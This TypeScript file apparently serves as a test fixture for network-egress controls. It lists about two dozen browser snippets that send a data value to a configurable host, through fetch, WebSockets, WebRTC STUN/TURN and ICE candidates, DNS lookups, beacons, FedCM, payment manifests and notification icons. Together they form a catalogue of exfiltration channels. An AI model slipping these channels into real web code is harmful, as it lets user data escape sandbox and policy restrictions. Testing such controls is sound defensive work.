import { anywhere, page, type Channel } from './channel.ts';

/** Connections made by script, in the page and in workers. */
export const scriptChannels: readonly Channel[] = [
  anywhere('fetch', `await fetch(U.h+'/fetch?'+U.d)`),
  anywhere('fetch no-cors', `await fetch(U.h+'/nocors?'+U.d,{mode:'no-cors'})`),
  anywhere('fetch POST', `await fetch(U.h+'/post',{method:'POST',mode:'no-cors',body:U.d})`),
  anywhere('fetch keepalive', `await fetch(U.h+'/ka?'+U.d,{keepalive:true,mode:'no-cors'})`),
  anywhere('XHR', `if(self.XMLHttpRequest){const x=new XMLHttpRequest();x.open('GET',U.h+'/xhr?'+U.d);x.send()}`),
  anywhere('WebSocket', `new WebSocket(U.w+'/ws?'+U.d)`),
  anywhere('WebSocketStream', `new WebSocketStream(U.w+'/wss?'+U.d)`),
  anywhere('EventSource', `new EventSource(U.h+'/es?'+U.d)`),
  anywhere('WebTransport', `const t=new WebTransport('https://'+U.ip+':'+U.port+'/wt?'+U.d);t.ready.catch(()=>{});t.closed.catch(()=>{})`),
  anywhere('import()', `await import(U.h+'/import.js?'+U.d)`),
  anywhere('Cache.add', `const c=await caches.open('x');await c.add(U.h+'/cache?'+U.d)`),
  anywhere('importScripts', `importScripts(U.h+'/import-script.js?'+U.d)`, { where: 'worker' }),
  page('sendBeacon', `navigator.sendBeacon(U.h+'/beacon',U.d)`),
  page('fetchLater', `fetchLater(U.h+'/later?'+U.d,{activateAfter:0})`),
  page(
    'WebRTC STUN',
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+U.ip+':'+U.port}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`,
  ),
  page(
    'WebRTC TURN over TCP',
    `const p=new RTCPeerConnection({iceServers:[{urls:'turn:'+U.ip+':'+U.port+'?transport=tcp',username:U.d,credential:'x'}],iceTransportPolicy:'relay'});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`,
  ),
  page(
    'WebRTC STUN host name (DNS)',
    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+U.dns+':3478'}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`,
    { oracle: 'dns' },
  ),
  page(
    'WebRTC remote candidate',
    `const a=new RTCPeerConnection();a.createDataChannel('x');const o=await a.createOffer();await a.setLocalDescription(o);const b=new RTCPeerConnection();await b.setRemoteDescription(o);const s=await b.createAnswer();await a.setRemoteDescription(s);await a.addIceCandidate({candidate:'candidate:1 1 udp 2122260223 '+U.ip+' '+U.port+' typ host',sdpMid:'0'});window.__p=[a,b]`,
  ),
  page(
    'WebRTC in a fresh iframe realm',
    `const f=document.createElement('iframe');document.body.append(f);const p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:'+U.ip+':'+U.port}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`,
  ),
  page(
    'PaymentRequest manifest',
    `const r=new PaymentRequest([{supportedMethods:U.hs+'/pay?'+U.d}],{total:{label:'x',amount:{currency:'USD',value:'1'}}});r.show().catch(()=>{});await r.canMakePayment()`,
    { gesture: true },
  ),
  page('FedCM', `navigator.credentials.get({identity:{providers:[{configURL:U.h+'/fedcm.json?'+U.d,clientId:'x'}]}}).catch(()=>{})`, {
    gesture: true,
  }),
  page('WebAuthn related origins (DNS)', `navigator.credentials.get({publicKey:{rpId:U.dns,challenge:new Uint8Array(16)}}).catch(()=>{})`, {
    gesture: true,
    oracle: 'dns',
  }),
  page('Background Fetch', `const r=await navigator.serviceWorker.ready;await r.backgroundFetch.fetch('x'+Math.random(),[U.h+'/bg?'+U.d])`, {
    gesture: true,
  }),
  page(
    'Push subscribe',
    `const r=await navigator.serviceWorker.ready;await r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:new Uint8Array(65)})`,
    { oracle: 'none' },
  ),
  page('media session artwork', `navigator.mediaSession.metadata=new MediaMetadata({title:'x',artwork:[{src:U.h+'/art.png?'+U.d}]})`),
  page('Notification icon', `new Notification('x',{icon:U.h+'/icon.png?'+U.d})`),
];
